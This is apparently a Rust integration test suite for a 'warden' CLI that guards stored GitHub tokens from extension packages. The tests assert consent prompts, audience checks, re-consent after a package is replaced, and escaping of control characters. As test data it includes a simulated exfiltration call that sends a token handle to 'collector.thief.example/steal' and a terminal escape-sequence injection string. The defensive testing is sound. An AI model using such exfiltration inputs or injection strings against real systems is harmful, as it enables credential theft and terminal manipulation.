//! Accounts through the `warden` binary: `secret set` binds the account to
//! the audiences of the extension that declares it, a package declaring the
//! same vendor gets a structured `auth_required` (consent, then audience),
//! and `secret list` shows bindings, never values.

use warden_tests::package::github_sender;
use warden_tests::{FakeGitHub, TOKEN, Warden};

fn steal(warden: &Warden) -> serde_json::Value {
    let run = warden.run(&[
        "--json",
        "call",
        "thief.send",
        "--input",
        r#"{"handle": "github_runtime_token", "url": "https://collector.thief.example/steal"}"#,
    ]);
    // auth_required has its own exit code.
    assert_eq!(run.code, 3, "{run:?}");
    assert!(!run.all().contains(TOKEN));
    run.json()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_thief_package_gets_auth_required_and_secret_list_shows_the_binding() {
    let fake = FakeGitHub::start().await;
    let warden = crate::warden();
    fake.connect(&warden);
    let packages = tempfile::tempdir().unwrap();
    let dir = github_sender(packages.path(), "thief", "collector.thief.example");
    let warden = tokio::task::spawn_blocking(move || {
        let list = warden.run(&["--json", "secret", "list"]);
        assert_eq!(list.code, 0, "{list:?}");
        assert!(!list.all().contains(TOKEN));
        let accounts = list.json();
        assert_eq!(accounts[0]["vendor"], "github", "{accounts}");
        assert_eq!(accounts[0]["scopes"], serde_json::json!(["repo"]));
        assert_eq!(accounts[0]["extensions"], serde_json::json!(["github"]));
        assert_eq!(accounts[0]["audiences"][0]["host"], "api.github.com");
        let text = warden.run(&["secret", "list"]);
        assert!(
            text.stdout.contains("https://api.github.com:443"),
            "{text:?}"
        );

        let install = warden.run(&["install", dir.to_str().unwrap()]);
        assert_eq!(install.code, 0, "{install:?}");
        let out = steal(&warden);
        assert_eq!(out["code"], "auth_required", "{out}");
        assert_eq!(out["auth"]["reason"], "consent", "{out}");
        assert_eq!(out["auth"]["vendor"], "github");
        assert_eq!(out["auth"]["extension"], "thief");
        assert_eq!(out["auth"]["scopes"], serde_json::json!(["repo"]));

        let allow = warden.run(&["secret", "allow", "thief", "github"]);
        assert_eq!(allow.code, 0, "{allow:?}");
        assert!(allow.stdout.contains("api.github.com"), "{allow:?}");
        let out = steal(&warden);
        assert_eq!(out["auth"]["reason"], "audience", "{out}");

        // Two extensions now declare the handle: `set` asks which one.
        let ambiguous = warden.run_with_stdin(
            &["secret", "set", "github", "github_runtime_token"],
            "another-token",
        );
        assert_ne!(ambiguous.code, 0);
        assert!(ambiguous.stderr.contains("--extension"), "{ambiguous:?}");
        warden
    })
    .await
    .unwrap();
    drop(warden);
    assert!(fake.requests().is_empty(), "nothing reached any server");
}

/// Issue 42: a package installed with `--replace` over `github` did not
/// need the user's consent again (consent was keyed by the id): it is
/// refused the account (`changed`) until `secret allow` names it.
#[tokio::test(flavor = "multi_thread")]
async fn a_replaced_package_is_refused_the_account_until_allowed_again() {
    let fake = FakeGitHub::start().await;
    let warden = crate::warden();
    fake.connect(&warden);
    let packages = tempfile::tempdir().unwrap();
    let dir = github_sender(packages.path(), "github", "api.github.com");
    let input = r#"{"handle": "github_runtime_token", "url": "https://api.github.com/replaced"}"#;
    let warden = tokio::task::spawn_blocking(move || {
        // It may do more than GitHub's package (a tool that sends
        // anywhere): installed only with a yes.
        let install = warden.run(&["install", "--replace", dir.to_str().unwrap()]);
        assert_eq!(install.code, 1, "{install:?}");
        assert!(
            install.stderr.contains("+ github.send: tool added"),
            "{install:?}"
        );
        let install = warden.run(&["install", "--replace", "--yes", dir.to_str().unwrap()]);
        assert_eq!(install.code, 0, "{install:?}");
        let run = warden.run(&["--json", "call", "github.send", "--input", input]);
        assert_eq!(run.code, 3, "{run:?}");
        let out = run.json();
        assert_eq!(out["code"], "auth_required", "{out}");
        assert_eq!(out["auth"]["reason"], "changed", "{out}");
        let text = warden.run(&["call", "github.send", "--input", input]);
        assert!(
            text.stderr.contains("warden secret allow github github"),
            "{text:?}"
        );

        let allow = warden.run(&["secret", "allow", "github", "github"]);
        assert_eq!(allow.code, 0, "{allow:?}");
        let run = warden.run(&["--json", "call", "github.send", "--input", input]);
        assert_eq!(run.code, 0, "{run:?}");
        assert!(!run.all().contains(TOKEN));
        warden
    })
    .await
    .unwrap();
    drop(warden);
    let requests = fake.requests();
    assert_eq!(requests.len(), 1, "only the allowed call reached GitHub");
    assert_eq!(requests[0].target, "/replaced");
    assert_eq!(
        requests[0].header("authorization"),
        Some(format!("Bearer {TOKEN}").as_str())
    );
}

/// `secret set --oauth-client` stores a deployment's OAuth client credential
/// under its own key (never an account: `secret list` does not show it) and
/// `secret rm --oauth-client` removes it; it takes neither scopes nor an
/// extension.
#[test]
fn an_oauth_client_credential_is_stored_apart_from_accounts() {
    let warden = crate::warden();
    let unpinned = warden.run_with_stdin(
        &["secret", "set", "github", "gh_client", "--oauth-client"],
        "client-123",
    );
    assert_ne!(unpinned.code, 0, "{unpinned:?}");
    assert!(unpinned.stderr.contains("--token-endpoint"), "{unpinned:?}");
    let set_client = |more: &[&str]| {
        let mut args = vec!["secret", "set", "github", "gh_client", "--oauth-client"];
        args.extend([
            "--token-endpoint",
            "https://github.com/login/oauth/access_token",
        ]);
        args.extend(more);
        warden.run_with_stdin(&args, "client-123")
    };
    let set = set_client(&[]);
    assert_eq!(set.code, 0, "{set:?}");
    assert!(
        set.stdout.contains("stored github/gh_client#client"),
        "{set:?}"
    );
    let list = warden.run(&["--json", "secret", "list"]);
    assert_eq!(list.json(), serde_json::json!([]), "{list:?}");
    let both = set_client(&["--extension", "github"]);
    assert_ne!(both.code, 0, "{both:?}");
    assert!(both.stderr.contains("cannot be used with"), "{both:?}");
    // With --json, what was stored and removed is said as JSON (it was
    // nothing at all).
    let json = warden.run_with_stdin(
        &[
            "--json",
            "secret",
            "set",
            "github",
            "gh_client",
            "--oauth-client",
            "--token-endpoint",
            "https://github.com/login/oauth/access_token",
        ],
        "client-123",
    );
    assert_eq!(json.code, 0, "{json:?}");
    let stored =
        serde_json::json!({"vendor": "github", "handle": "gh_client#client", "scopes": []});
    assert_eq!(json.json()["stored"], stored, "{json:?}");
    assert_eq!(
        json.json()["token_endpoint"],
        "https://github.com/login/oauth/access_token"
    );
    let rm = warden.run(&[
        "--json",
        "secret",
        "rm",
        "github",
        "gh_client",
        "--oauth-client",
    ]);
    assert_eq!(rm.code, 0, "{rm:?}");
    assert_eq!(rm.json()["removed"], stored, "{rm:?}");
    let again = warden.run(&["secret", "rm", "github", "gh_client", "--oauth-client"]);
    assert_ne!(again.code, 0, "{again:?}");
}

/// An error's text comes from outside (here an argument; elsewhere a
/// manifest or a server's metadata): its control characters are shown as
/// escapes, never sent to the terminal.
#[test]
fn an_error_never_sends_control_characters_to_the_terminal() {
    let warden = crate::warden();
    let run = warden.run_with_stdin(&["secret", "set", "evil\u{1b}[2J", "handle"], "x");
    assert_ne!(run.code, 0, "{run:?}");
    assert!(!run.stderr.contains('\u{1b}'), "{run:?}");
    assert!(run.stderr.contains("evil\\u{1b}[2J"), "{run:?}");
}
